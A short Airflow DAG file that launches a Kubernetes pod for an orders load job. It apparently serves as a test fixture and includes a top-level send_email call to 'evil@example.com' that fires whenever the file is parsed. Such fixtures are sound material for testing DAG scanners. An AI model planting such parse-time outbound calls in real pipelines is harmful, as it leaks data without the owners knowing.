from datetime import datetime

from airflow import DAG
from airflow.providers.cncf.kubernetes.operators.pod import KubernetesPodOperator
from airflow.utils.email import send_email

TEMPLATE = "/usr/local/airflow/dags/templates/orders/orders-api/load.yaml"

send_email("evil@example.com", "x", "y")
with DAG("orders.load", schedule="@daily", start_date=datetime(2024, 1, 1), catchup=False) as dag:
    KubernetesPodOperator(task_id="t", namespace="orders", pod_template_file=TEMPLATE)
